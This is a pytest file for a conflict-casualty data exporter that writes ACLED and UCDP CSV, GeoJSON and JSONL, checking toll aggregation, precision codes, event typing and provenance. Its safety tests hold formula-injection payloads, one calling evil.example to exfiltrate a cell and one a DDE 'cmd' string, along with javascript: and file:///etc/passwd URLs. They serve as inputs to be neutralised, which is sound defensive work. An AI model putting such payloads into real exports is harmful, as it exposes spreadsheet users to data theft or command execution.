"""Export rows from hand-built incidents: headline tolls, precisions, event types, UCDP sides,
provenance and spreadsheet safety."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pandas as pd
import pytest

from tollwatch.exports import (
    ACLED_COLUMNS,
    PANDAS_DTYPES,
    UCDP_COLUMNS,
    Reported,
    acled_csv,
    acled_row,
    event_type,
    geojson,
    headline_toll,
    jsonl,
    priogrid_gid,
    safe_url,
    spreadsheet_safe,
    ucdp_csv,
    ucdp_row,
)
from tollwatch.model import DatePrecision, Incident, Place, Toll
from tollwatch.store.queries import Cited, ReportRef

DAY = dt.date(2025, 3, 6)
PLACE = Place("Jableh", country="SY", admin1="Latakia", lat=35.36, lon=35.92, precision=1)
REPORT = ReportRef(4, "wire-0042", "Coast Wire", "Shelling hits port town", "https://w.example/a",
                   DAY)


def _incident(tolls: list[Toll], days: int = 0, place: Place | None = PLACE) -> Incident:
    return Incident(id=7, place=place, start=DAY, end=DAY + dt.timedelta(days=days), tolls=tolls)


def _cited(sentence: str = "", precision: DatePrecision | None = None, claim_id: int = 1,
           report: ReportRef = REPORT) -> Cited:
    return Cited(claim_id, sentence, precision, report)


@pytest.mark.parametrize(
    ("tolls", "expected"),
    [
        ([Toll(10, 12, 15, group="total"), Toll(5, 5, 5, group="civilians")], (10, 12, 15)),
        ([Toll(5, 5, 5, group="civilians"), Toll(2, 3, 4, group="security_forces")], (7, 8, 9)),
        ([Toll(5, 5, None, group="civilians"), Toll(3, 3, 3, group="armed_group")], (8, 8, None)),
        ([Toll(4, 4, 4, group="civilians"), Toll(2, 2, 2, group="perpetrators")], (4, 4, 4)),
        ([Toll(2, 2, 2, group="perpetrators")], None),
        ([Toll(9, 9, 9, outcome="injured")], None),
    ],
)
def test_exports_headline_toll(
    tolls: list[Toll], expected: tuple[int, int, int | None] | None
) -> None:
    toll = headline_toll(_incident(tolls))
    assert (None if toll is None else (toll.low, toll.best, toll.high)) == expected


@pytest.mark.parametrize(
    ("days", "stated", "acled", "ucdp"),
    [
        (0, "day", "1", "1"),
        (0, "days", "2", "2"),
        (0, "week", "2", "3"),
        (0, "month", "3", "4"),  # a month-level date is never precision 1
        (0, "year", "3", "5"),
        (0, None, "2", "2"),  # no claim dates it: the report's date stood in
        (3, "day", "2", "2"),
        (7, "day", "2", "3"),
        (20, "day", "3", "4"),
        (60, None, "3", "5"),
    ],
)
def test_exports_time_precision_from_claims_and_span(
    days: int, stated: DatePrecision | None, acled: str, ucdp: str
) -> None:
    item = Reported(_incident([Toll(3, 3, 3, claim_ids=(1,))], days=days),
                    [_cited("They died.", stated)])
    assert acled_row(item)["time_precision"] == acled
    assert ucdp_row(item)["date_prec"] == ucdp


def test_exports_time_precision_takes_the_most_precise_claim() -> None:
    item = Reported(_incident([Toll(3, 3, 3, claim_ids=(1, 2))]),
                    [_cited("x", "month", 1), _cited("y", "day", 2)])
    assert acled_row(item)["time_precision"] == "1"


@pytest.mark.parametrize(
    ("where_prec", "geo_precision"),
    [(1, "1"), (2, "2"), (3, "2"), (4, "3"), (6, "3"), (None, "")],
)
def test_exports_acled_geo_precision(where_prec: int | None, geo_precision: str) -> None:
    place = Place("Somewhere", country="SY", lat=35.0, lon=36.0, precision=where_prec)
    assert acled_row(_incident([Toll(1, 1, 1)], place=place))["geo_precision"] == geo_precision


@pytest.mark.parametrize(
    ("sentences", "expected"),
    [
        (["An Israeli airstrike on the camp killed 9 people."],
         ("Explosions/Remote violence", "Air/drone strike")),
        (["Two drone strikes hit the convoy, killing 4."],
         ("Explosions/Remote violence", "Air/drone strike")),
        (["Artillery shelling of the market killed 12 civilians."],
         ("Explosions/Remote violence", "Shelling/artillery/missile attack")),
        (["A roadside bomb killed three soldiers."],
         ("Explosions/Remote violence", "Remote explosive/landmine/IED")),
        (["A suicide car bomb killed 20 at the checkpoint."],
         ("Explosions/Remote violence", "Suicide bomb")),
        (["Clashes between the army and rebels left 30 dead."], ("Battles", "Armed clash")),
        (["A chlorine attack on the town killed 6 and injured dozens."],
         ("Explosions/Remote violence", "Chemical weapon")),
        (["Gunmen massacred 14 villagers overnight."],
         ("Violence against civilians", "Attack")),
        (["Shelling killed 5.", "A drone strike killed 2 more."],
         ("Explosions/Remote violence", "")),  # two kinds named equally: only the type is sure
        (["Clashes killed 5.", "An airstrike killed 2."], ("", "")),
        (["Eleven people were killed on Tuesday, officials said."], ("", "")),  # never guessed
        (["The clashing colours of the flags"], ("", "")),  # whole words only
    ],
)
def test_exports_event_type_from_what_the_text_says(
    sentences: list[str], expected: tuple[str, str]
) -> None:
    assert event_type(sentences) == expected


def test_exports_acled_event_type_and_disorder_from_claims() -> None:
    item = Reported(_incident([Toll(3, 3, 3, claim_ids=(1,))]),
                    [_cited("Heavy shelling of the port killed 3 fishermen.")])
    row = acled_row(item)
    assert (row["disorder_type"], row["event_type"], row["sub_event_type"]) == (
        "Political violence", "Explosions/Remote violence", "Shelling/artillery/missile attack")
    assert acled_row(_incident([Toll(3, 3, 3)]))["event_type"] == ""


@pytest.mark.parametrize(
    ("tolls", "sides"),
    [
        ([Toll(30, 30, 30), Toll(12, 12, 12, group="civilians"),
          Toll(5, 5, 5, group="security_forces"), Toll(4, 4, 4, group="armed_group"),
          Toll(2, 2, 2, group="perpetrators")], ("5", "4", "12", "9", "30")),
        ([Toll(5, 5, 5), Toll(4, 4, 4, group="civilians"),
          Toll(3, 3, 3, group="security_forces")], ("0", "0", "0", "5", "5")),  # parts > total
        ([Toll(6, 6, 6, group="civilians"), Toll(1, 1, 1, group="armed_group")],
         ("0", "1", "6", "0", "7")),
        ([Toll(2, 2, 2, group="perpetrators")], ("0", "0", "0", "0", "0")),
    ],
)
def test_exports_ucdp_sides_sum_to_best(tolls: list[Toll], sides: tuple[str, ...]) -> None:
    row = ucdp_row(_incident(tolls))
    cols = ("deaths_a", "deaths_b", "deaths_civilians", "deaths_unknown", "best")
    assert tuple(row[c] for c in cols) == sides
    assert sum(int(row[c]) for c in cols[:4]) == int(row["best"])


@pytest.mark.parametrize(
    ("toll", "low_best_high"),
    [(Toll(10, 12, None), ("10", "12", "12")), (Toll(10, 12, 15), ("10", "12", "15")),
     (Toll(14, 12, 11), ("12", "12", "12"))],
)
def test_exports_bounds_ordered_and_high_filled(toll: Toll, low_best_high: tuple[str, ...]
                                                ) -> None:
    row = ucdp_row(_incident([toll]))
    assert (row["low"], row["best"], row["high"]) == low_best_high
    acled = acled_row(_incident([toll]))
    assert (acled["fatalities_low"], acled["fatalities"], acled["fatalities_high"]) == low_best_high


def test_exports_provenance_in_every_format() -> None:
    other = ReportRef(9, "9f8e7d6c5b4a3921", None, None, "javascript:alert(1)", None)
    item = Reported(_incident([Toll(3, 3, 3, claim_ids=(1, 2), sources=("medics",))]),
                    [_cited("x", report=REPORT), _cited("y", claim_id=2, report=other)])
    acled = acled_row(item)
    assert acled["source_article"] == "wire-0042; 9f8e7d6c5b4a3921"
    assert acled["source_url"] == "https://w.example/a"  # javascript: never becomes a link
    assert acled["source"] == "Coast Wire; medics"
    ucdp = ucdp_row(item)
    assert (ucdp["number_of_sources"], ucdp["source_office"], ucdp["source_headline"],
            ucdp["source_original"], ucdp["source_date"]) == (
        "2", "Coast Wire", "Shelling hits port town", "medics", "2025-03-06")
    props = json.loads("".join(geojson([item])))["features"][0]["properties"]
    assert props["source_article"] == ["wire-0042", "9f8e7d6c5b4a3921"]
    assert props["reports"][0] == {**REPORT.to_dict()}
    assert props["reports"][1]["url"] is None
    record = json.loads("".join(jsonl([item])))
    assert [r["source_article"] for r in record["reports"]] == ["wire-0042", "9f8e7d6c5b4a3921"]


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1 Monitor", "'=1+1 Monitor"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=HYPERLINK(\"http://x\")", "'\t=HYPERLINK(\"http://x\")"),
        ("\r=1", "'\r=1"),
        ("-33.5", "-33.5"),  # our own numbers stay numbers
        ("-1e-05", "-1e-05"),
        ("12", "12"),
        ("Monitor says =1", "Monitor says =1"),
        ("", ""),
    ],
)
def test_exports_spreadsheet_safe(cell: str, safe: str) -> None:
    assert spreadsheet_safe(cell) == safe


@pytest.mark.parametrize("writer", [acled_csv, ucdp_csv])
def test_exports_formula_injection_exported_as_text(writer) -> None:  # type: ignore[no-untyped-def]
    payload = "=WEBSERVICE(\"http://evil.example/?\"&A1)"
    place = Place(payload, country="SY", admin1="+cmd|' /C calc'!A0", lat=-33.5, lon=-70.25,
                  precision=1)
    report = ReportRef(1, "@evil", "=1+1 Monitor", "-2+3 killed", "https://ok.example", DAY)
    item = Reported(_incident([Toll(3, 3, 3, claim_ids=(1,), sources=("=HYPERLINK(1)",))],
                              place=place), [_cited("x", report=report)])
    text = "".join(writer([item]))
    for row in csv.reader(io.StringIO(text)):
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value in ("-33.5", "-70.25"), value
    name = "acled" if writer is acled_csv else "ucdp"
    frame = pd.read_csv(io.StringIO(text), dtype=PANDAS_DTYPES[name])
    assert frame["latitude"].iloc[0] == -33.5  # numbers still load as numbers


@pytest.mark.parametrize(
    ("url", "safe"),
    [("https://a.example/x", "https://a.example/x"), ("http://a.example", "http://a.example"),
     ("javascript:alert(1)", ""), ("JaVaScRiPt:alert(1)", ""), ("data:text/html,x", ""),
     ("file:///etc/passwd", ""), ("//a.example", ""), (None, ""), ("http://[::1", "")],
)
def test_exports_safe_url(url: str | None, safe: str) -> None:
    assert safe_url(url) == safe


@pytest.mark.parametrize(
    ("lat", "lon", "gid"),
    [(-89.75, -179.75, "1"), (-89.75, 179.75, "720"), (89.75, 179.75, "259200"),
     (0.25, 0.25, "129961"), (None, 10.0, "")],
)
def test_exports_priogrid_gid(lat: float | None, lon: float | None, gid: str) -> None:
    assert priogrid_gid(lat, lon) == gid


@pytest.mark.parametrize(("columns", "row"), [(ACLED_COLUMNS, acled_row), (UCDP_COLUMNS, ucdp_row)])
def test_exports_rows_have_every_column_in_order(columns, row) -> None:  # type: ignore[no-untyped-def]
    assert list(row(_incident([Toll(1, 1, 1)]))) == list(columns)
    assert list(row(_incident([], place=None))) == list(columns)
